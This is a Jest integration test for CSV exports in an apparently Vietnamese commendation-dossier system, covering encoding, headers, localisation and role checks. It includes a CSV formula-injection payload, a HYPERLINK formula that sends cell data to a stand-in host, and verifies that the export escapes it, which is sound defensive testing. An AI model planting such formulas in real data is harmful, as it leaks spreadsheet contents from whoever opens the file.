import { handIn, shows, wordsOf } from '../support/http-dossiers';
import { startHttpStack, type HttpStack } from '../support/http-stack';

jest.setTimeout(60_000);

const HOSTILE = '=HYPERLINK("http://x.example?"&A1,"Bấm vào đây")';

let stack: HttpStack;
beforeAll(async () => {
  stack = await startHttpStack();
}, 60_000);
afterAll(() => stack.stop());

const text = (bytes: Buffer): string => bytes.toString('utf8');

async function submitHostile(): Promise<string> {
  const applicant = await stack.as('mttq.lap-ho-so');
  const words = wordsOf(await handIn(applicant, 'x')) as { content: { subject: object } };
  const subject = { ...words.content.subject, name: HOSTILE };
  const { body: draft } = await applicant.post('/api/drafts', {
    ...words,
    content: { ...words.content, subject },
  });
  const { body } = await applicant.command(`/api/drafts/${(draft as { id: string }).id}/submit`, {
    version: 1,
  });
  const { id, seq, code } = body as { id: string; seq: number; code: string };
  await shows(applicant, `/api/dossiers/${id}`, seq);
  return code;
}

describe('lists as files', () => {
  it('give the limits of an office, and no name in them is a formula', async () => {
    const code = await submitHostile();
    const unit = await stack.as('mttq.thuong-truc', 'secretary');
    const { status, headers, bytes } = await unit.get('/api/limits/csv');
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers.get('content-disposition')).toContain('attachment; filename="han-cua-don-vi.csv"');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = text(bytes).split('\r\n');
    expect(header).toContain('Mã hồ sơ,Đối tượng,');
    const row = rows.find((line) => line.startsWith(code));
    expect(row).toContain(`,"'${HOSTILE.replaceAll('"', '""')}",Huân chương Lao động hạng Ba,tiếp nhận,`);
    const english = await unit.with({ 'Accept-Language': 'en' }).get('/api/limits/csv');
    expect(text(english.bytes)).toContain('Code,Subject,Award,Step,');
  });

  it('give the holders that the ledger finds, to who may see them', async () => {
    const standing = await stack.as('so-noi-vu.thuong-truc', 'secretary');
    const { status, bytes } = await standing.get('/api/ledger/subjects/csv?search=nguyen&kind=person');
    expect([status, text(bytes).split('\r\n')[0]]).toEqual([
      200,
      '\uFEFFHọ tên hoặc tên tập thể,Loại đối tượng,Năm sinh,Đơn vị,Số lần khen thưởng',
    ]);
    expect((await standing.get('/api/ledger/subjects/csv?kind=ghost')).status).toBe(422);
    expect((await stack.anyone.get('/api/ledger/subjects/csv')).status).toBe(401);
  });

  it('give what dossiers would be under a set, to administrators alone', async () => {
    const administrator = await stack.as('quan-tri.lang-son', 'administrator');
    const { inForce } = (await administrator.get('/api/rule-sets')).body as { inForce: { id: string } };
    const asked = `/api/rule-sets/${inForce.id}/what-if/csv`;
    const { status, bytes } = await administrator.get(asked);
    expect([status, text(bytes)]).toEqual([
      200,
      '\uFEFFMã hồ sơ,Đối tượng,"Danh hiệu, hình thức",Đã ghim,Điểm khác,Điều khoản\r\n',
    ]);
    const officer = await stack.as('so-noi-vu.thuong-truc', 'secretary');
    expect((await officer.get(asked)).body.code).toBe('office-wrong-role');
    expect((await administrator.get('/api/rule-sets/x/what-if/csv')).body.code).toBe('not-found');
  });
});
